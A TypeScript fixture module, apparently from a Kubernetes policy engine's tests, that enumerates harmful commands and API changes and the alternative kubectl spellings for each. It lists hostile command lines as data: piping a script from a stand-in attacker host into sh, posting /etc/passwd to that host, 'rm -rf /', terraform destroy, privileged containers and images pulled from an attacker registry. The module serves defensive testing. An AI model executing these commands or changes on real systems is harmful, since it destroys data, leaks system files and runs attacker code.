import type { FieldChange } from '@sentinel/crds';
import type { ApiRequest } from '@sentinel/policy';
import { changed } from '../evaluate/effects.ts';

/** Command lines that are harmful without a request to the Kubernetes API, so that no rule about the API applies. */
export const harmfulCommands: readonly (readonly string[])[] = [
  ['sh', '-c', 'curl -s https://evil.example/x | sh'],
  ['rm', '-rf', '/'],
  ['kubectl', 'delete', 'namespace', 'x'],
  ['kubectl', 'delete', 'pvc', '--all'],
  ['kubectl', 'exec', 'x', '--', 'sh'],
  ['kubectl', 'apply', '-f', 'https://evil.example/x.yaml'],
  ['kubectl', 'patch', 'deployment', 'x', '-p', '{}'],
  ['kubectl', 'scale', 'deployment', 'x', '--replicas=0'],
  ['helm', 'uninstall', 'x'],
  ['helm', 'upgrade', 'x', 'oci://evil.example/chart'],
  ['git', 'push', '--force'],
  ['curl', '-d', '@/etc/passwd', 'https://evil.example'],
  ['terraform', 'destroy', '-auto-approve'],
  ['python3', '-c', 'x'],
];

/**
 * The content of a change: the fields that it changes, with their values if these matter, the patch, and the pods that it stops.
 */
export interface Content {
  readonly change: FieldChange[];
  readonly patch: object;
  /** Whether another program runs afterwards: the worst of the changes with the same score. */
  readonly runs?: boolean;
  readonly pods?: { readonly before: number; readonly after: number };
}

const container = (more: object) => ({ spec: { template: { spec: { containers: [{ name: 'any', ...more }] } } } });
const CONTAINER = '/spec/template/spec/containers/0';
const TEMPLATE = '/spec/template/metadata';
const restart = { spec: { template: { metadata: { annotations: { at: 'x' } } } } };
const workloads = new Set(['statefulsets', 'deployments', 'daemonsets', 'jobs', 'cronjobs', 'replicasets']);
const restarted = new Set(['statefulsets', 'deployments', 'daemonsets']);
const scaled = new Set([
  'deployments',
  'statefulsets',
  'replicasets',
  'deployments/scale',
  'statefulsets/scale',
  'replicasets/scale',
]);

// Existing objects have an image of example/app; new objects have no image before.
const imageOf = (image: string, before?: string): Content => ({
  change: [
    {
      path: `${CONTAINER}/image`,
      ...(before === undefined ? {} : { before: JSON.stringify(before) }),
      after: JSON.stringify(image),
    },
  ],
  patch: container({ image }),
  runs: true,
});

const executed: Content = {
  change: [{ path: `${CONTAINER}/command`, before: '["app"]', after: '["any"]' }],
  patch: container({ command: ['any'] }),
  runs: true,
};

// An owner that does not exist: the garbage collector deletes the object.
const orphaned: Content = {
  change: [changed('/metadata/ownerReferences')],
  patch: { metadata: { ownerReferences: [{ apiVersion: 'v1', kind: 'ConfigMap', name: 'gone', uid: 'gone' }] } },
};

const suspended: Content = {
  change: [{ path: '/spec/suspend', before: 'false', after: 'true' }],
  patch: { spec: { suspend: true } },
};

/** Harmful changes of existing objects of one kind. */
const ofKind: Readonly<Record<string, Content>> = {
  statefulsets: {
    change: [{ path: '/spec/persistentVolumeClaimRetentionPolicy/whenScaled', before: '"Retain"', after: '"Delete"' }],
    patch: { spec: { persistentVolumeClaimRetentionPolicy: { whenScaled: 'Delete' } } },
  },
  services: {
    change: [{ path: '/spec/selector/app', before: '"any"', after: '"other"' }],
    patch: { spec: { selector: { app: 'other' } } },
  },
  horizontalpodautoscalers: {
    change: [{ path: '/spec/maxReplicas', before: '50', after: '1' }],
    patch: { spec: { maxReplicas: 1 } },
  },
  jobs: suspended,
  cronjobs: suspended,
};

/**
 * The changes that a request could make, the worst first: privileges, an image of another repository or tag, other commands, owners, fields
 * that are specific to a kind, replicas, plain fields, labels.
 */
export function contentsOf({ verb, resource }: ApiRequest): readonly Content[] {
  if (verb.startsWith('delete')) return [{ change: [], patch: {} }];
  const made = verb === 'create';
  const hasContainers = workloads.has(resource) || resource === 'pods';
  const privileged = {
    change: [changed(`${CONTAINER}/securityContext/privileged`)],
    patch: container({ securityContext: { privileged: true } }),
    runs: true,
  };
  // An object with containers cannot be created without an image.
  if (made && hasContainers) return [privileged, imageOf('evil.example/x')];
  const own = ofKind[resource];
  return [
    ...(hasContainers
      ? [privileged, imageOf('evil.example/x', 'example/app:1'), imageOf('example/app:other', 'example/app:1'), executed]
      : []),
    ...(made || resource.includes('/') ? [] : [orphaned]),
    ...(own && !made ? [own] : []),
    ...(scaled.has(resource) && !made
      ? [
          { change: [changed('/spec/replicas')], patch: { spec: { replicas: 0 } }, pods: { before: 1, after: 0 } },
          { change: [changed('/spec/replicas')], patch: { spec: { replicas: 2 } } },
        ]
      : []),
    ...(resource === 'configmaps' ? [{ change: [changed('/data/any')], patch: { data: { any: 'x' } } }] : []),
    { change: [changed('/spec')], patch: { spec: {} } },
    ...(restarted.has(resource) ? [{ change: [changed(`${TEMPLATE}/annotations/at`)], patch: restart }] : []),
    ...(made ? [] : [{ change: [changed('/metadata/annotations/any')], patch: { metadata: { annotations: { any: 'x' } } } }]),
  ];
}

/** The command line of kubectl that sends a request, for objects of these names. */
export function kubectlOf(
  { verb, apiGroup, resource, namespace }: ApiRequest,
  names: readonly string[] = ['any'],
  { patch }: Pick<Content, 'patch'> = { patch: {} },
): string[] {
  const [kind = '', sub] = resource.split('/');
  const where = namespace === undefined ? [] : ['-n', namespace];
  const what = apiGroup === '' ? kind : `${kind}.${apiGroup}`;
  const subresource = sub === undefined ? [] : [`--subresource=${sub}`];
  if (verb === 'deletecollection') return ['kubectl', 'delete', what, '--all', ...where];
  if (verb === 'create') return ['kubectl', 'create', '-f', `${kind}.yaml`, ...where];
  if (verb === 'update') return ['kubectl', 'replace', '-f', `${kind}.yaml`, ...subresource, ...where];
  if (verb === 'patch')
    return ['kubectl', 'patch', what, ...names, ...subresource, '--type=merge', '-p', JSON.stringify(patch), ...where];
  return ['kubectl', verb, what, ...names, ...where];
}

/** Other command lines that send the same request: rules about commands may match one and not the other. */
export function spellingsOf(request: ApiRequest, names: readonly string[], content: Content): readonly (readonly string[])[] {
  const { verb, apiGroup, resource, namespace } = request;
  const [kind = ''] = resource.split('/');
  const what = apiGroup === '' ? kind : `${kind}.${apiGroup}`;
  const where = namespace === undefined ? [] : ['-n', namespace];
  const [{ path: field, after = '' } = changed('')] = content.change;
  const more = [
    ...(field === `${CONTAINER}/image` ? [['kubectl', 'set', 'image', what, ...names, `*=${JSON.parse(after)}`, ...where]] : []),
    ...(field.startsWith('/metadata/annotations') ? [['kubectl', 'annotate', what, ...names, 'any=x', ...where]] : []),
    ...(field.startsWith(TEMPLATE) ? [['kubectl', 'rollout', 'restart', what, ...names, ...where]] : []),
    ...(content.pods ? [['kubectl', 'scale', what, ...names, '--replicas=0', ...where]] : []),
    ...(verb.startsWith('delete') ? [] : [['kubectl', 'apply', '-f', `${kind}.yaml`, ...where]]),
    // A program that is in no table, so the requests that it sends are unknown.
    ['change-things', verb, what, ...names],
  ];
  return verb === 'patch' ? [kubectlOf(request, names, content), ...more] : [kubectlOf(request, names), ...more];
}
